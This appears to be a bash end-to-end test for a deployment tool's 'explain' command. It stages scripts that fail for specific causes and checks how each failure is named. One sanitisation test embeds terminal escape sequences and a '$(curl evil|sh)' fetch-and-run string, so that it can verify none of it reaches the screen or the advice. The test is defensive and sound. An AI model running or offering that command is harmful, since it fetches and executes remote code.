#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# explain names what a failure comes from: a real script that fails for each cause, and what is recorded of it.
. "$top_srcdir/tests/e2e/lib.sh"
. "$top_srcdir/tests/e2e/fleet.sh"
. "$top_srcdir/tests/e2e/cli-lib.sh"

local_host host

# revision SCRIPT-TEXT [TIMEOUT]: one whose only script is this.
revision() {
	rm -rf "$T/r"
	mkdir -p "$T/r/app" "$T/r/scripts"
	echo 1 >"$T/r/app/file"
	printf '%b' "$1" >"$T/r/scripts/start.sh"
	chmod 755 "$T/r/scripts/start.sh"
	cat >"$T/r/appspec.yml" <<Y
version: 0.0
os: linux
files:
  - source: app
    destination: /srv/app
hooks:
  ${3:-ApplicationStart}:
    - location: scripts/start.sh
      timeout: ${2:-60}
Y
}

# of_cause: name and text of the newest deployment's first cause, in $cause and $T/text.
of_cause() {
	slip explain --json >"$T/json"
	{ read -r cause; cat; } < <(python3 -c '
import json, sys
first = (json.load(sys.stdin)["failure"].get("causes") or [{"cause": "none", "text": ""}])[0]
print(first["cause"], first["text"], sep="\n")' <"$T/json") >"$T/text"
}

# fails NAME TEXT: the revision fails, for this cause, told with this text.
fails() {
	slip deploy "$T/r" >"$T/out" 2>"$T/err"
	of_cause
	is "$1" "$1" "$cause"
	says "$1 is told: $2" "$2" "$T/text"
	slip explain >"$T/explain"
	says "$1 stands on the screen" "  cause    " "$T/explain"
}

# --- the script cannot be started -------------------------------------------------------------------------------------
revision '#!/opt/no/such/perl\n'
fails interpreter_missing "'/opt/no/such/perl'"
revision '#!/bin/sh\r\necho x\r\n'
fails windows_line_ends "'/bin/sh'"
revision '#!/usr/bin/env bash\r\necho x\r\n'
fails windows_line_ends "'bash'"
revision '#!/usr/bin/env no-such-python\n'
fails command_not_found "'no-such-python'"
python3 - "$T/r/scripts/start.sh" <<'P'
import sys
head = bytearray(open("/proc/self/exe", "rb").read(4096))
head[18:20] = b"\xf7\x00"  # of no machine that runs programs
open(sys.argv[1], "wb").write(head)
P
fails wrong_architecture "machine 247"

# --- it says so itself ------------------------------------------------------------------------------------------------
revision '#!/bin/sh\nno-such-command --x\n'
fails command_not_found "'no-such-command'"
says "with the line that says it" "start.sh: 2: no-such-command: not found" "$T/explain"
says "and what to do" "next: install what provides it" "$T/explain"
revision '#!/bin/sh\necho one\nexec python3 -c "import no_such_module"\n'
fails module_missing "module"
revision '#!/bin/sh\nchown no-such-user: /tmp || exit 3\n'
fails user_unknown "'no-such-user'"
revision '#!/bin/sh\ncat /no/such/file.conf\n'
fails file_missing "/no/such/file.conf"
revision '#!/bin/sh\necho "app: error while loading shared libraries: libshop.so.3: cannot open shared object file: No such file or directory" >&2\nexit 127\n'
fails library_missing "'libshop.so.3'"
revision "#!/bin/sh\necho 'E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process $$ (unattended-upgr)' >&2\nexit 100\n"
fails package_lock "($$)"

# --- how it ends ------------------------------------------------------------------------------------------------------
revision '#!/bin/sh\necho waiting for the database\nexec sleep 100\n' 1
fails timeout "1 s"
revision '#!/bin/sh\nkill -SEGV $$\n'
fails signal "SIGSEGV"
revision '#!/bin/bash\nbash -c "kill -ABRT \\$\\$"\nexit $?\n'
fails signal "exit code 134"
revision '#!/bin/sh\nexit 126\n'
fails permission_denied "126"

# --- ports: a program that listens, asked by name ---------------------------------------------------------------------
start listener python3 -c '
import socket
s = socket.create_server(("127.0.0.1", 0))
print("port", s.getsockname()[1], flush=True)
while True:
    s.accept()'
port=$(line_of listener 's/^port //p')
revision "#!/bin/sh\nexec python3 -m http.server --bind 127.0.0.1 $port\n"
sed -i "1a echo 'serving on port $port'" "$T/r/scripts/start.sh"
fails port_in_use "port $port is in use: python3 (${started[listener]})"
# what was true then is told when it is true no more
stop listener
slip explain >"$T/explain"
says "also when it has ended since" "(${started[listener]-}" "$T/explain"
revision "#!/bin/sh\nexec python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", $port))' || exit 1\n" 60 ValidateService
sed -i "1a echo 'asking localhost:$port' >&2" "$T/r/scripts/start.sh"
fails connection_refused "refused a connection"
if command -v curl >/dev/null; then
	revision "#!/bin/sh\nexec curl -sS http://localhost:$port/\n" 60 ValidateService
	fails connection_refused "nothing listens on port $port of this host"
fi

# --- full and read-only file systems, for real ------------------------------------------------------------------------
in_mounts() { # SETUP: the deployment in mounts of its own
	timeout 60 unshare -m bash -c "set -e; mkdir -p '$T/mnt'; $1; exec '$SLIPWAY' --root '$T/host' deploy '$T/r'" >"$T/out" 2>"$T/err"
}
if [ "$(id -u)" = 0 ] && unshare -m true 2>/dev/null; then
	revision "#!/bin/sh\nexec dd if=/dev/zero of=$T/mnt/x bs=1M count=8\n"
	in_mounts "mount -t tmpfs -o size=1m none '$T/mnt'"
	of_cause
	is "a full file system is named" no_space "$cause"
		says "with its figures" "the file system $T/mnt has 0 B of 1.0 MB free" "$T/text"
	revision "#!/bin/sh\ni=0; while : >$T/mnt/\$i; do i=\$((i+1)); done; exit 1\n"
	in_mounts "mount -t tmpfs -o nr_inodes=20 none '$T/mnt'"
	of_cause
	is "so is one without inodes" no_inodes "$cause"
	revision "#!/bin/sh\n: >$T/mnt/x\n"
	in_mounts "mount -t tmpfs -o ro none '$T/mnt'"
	of_cause
	is "and a read-only one" read_only "$cause"
		says "by its mount point" "the file system $T/mnt is mounted read-only" "$T/text"
	revision "#!/bin/sh\ndd if=/dev/zero of=$T/mnt/x bs=1M count=8 2>/dev/null; echo out of luck; exit 1\n"
	in_mounts "mount -t tmpfs -o size=1m none '$T/mnt'"
	of_cause
	is "also when the script does not say it" no_space "$cause"
else
	skip "full and read-only file systems" "needs root, and mounts of its own"
fi

# --- a file in the way ------------------------------------------------------------------------------------------------
revision '#!/bin/sh\n'
mkdir -p "$T/host/tree/srv/app"
echo mine >"$T/host/tree/srv/app/file"
slip deploy "$T/r" >"$T/out" 2>"$T/err"
of_cause
is "a refusal has its cause" file_conflict "$cause"
says "with the path" "$T/host/tree/srv/app/file" "$T/text"
slip explain >"$T/explain"
is "which is not told a second time" 0 "$(grep -c '^  cause ' "$T/explain")"
says "but what to do is" "next: move it away" "$T/explain"
is "no output is offered where no script ran" "" "$(grep -F 'slipway logs' "$T/explain")"
rm -r "$T/host/tree/srv"

# --- nothing that is printed harms who reads it -----------------------------------------------------------------------
# shellcheck disable=SC2016 # that is what is printed
revision '#!/bin/sh\nprintf "\\033]0;x\\007\\033[2J\\302\\233 31m $(curl evil|sh): command not found\\n" >&2\nexit 127\n'
slip deploy "$T/r" >"$T/out" 2>"$T/err"
slip explain >"$T/explain"
is "no control character reaches the screen" "" "$(tr -d '\n\t -~' <"$T/explain" | tr -d '\200-\377')"
slip explain --json | python3 -c '
import json, sys
for cause in json.load(sys.stdin)["failure"]["causes"]:
    print(cause["text"], cause["next"])' >"$T/text"
ok "and none of it becomes advice" sh -c "! grep -e evil -e '[\$|]' '$T/text'"

# --- the last 20 lines, however much came before ----------------------------------------------------------------------
revision '#!/bin/sh\nseq 100000\necho "Address already in use" >&2\nseq 40\nexit 9\n'
slip deploy "$T/r" >"$T/out" 2>"$T/err"
slip explain >"$T/explain"
is "the last 20 lines are shown" 20 "$(grep -c '^    | ' "$T/explain")"
is "the very last" "$(seq 22 40 | xargs)" "$(sed -n 's/^    | \[stdout\]//p' "$T/explain" | xargs)"
of_cause
is "and a line further up is found" port_in_use "$cause"
says "with how long it took" "it ended with exit code 9, after " "$T/explain"
done_testing
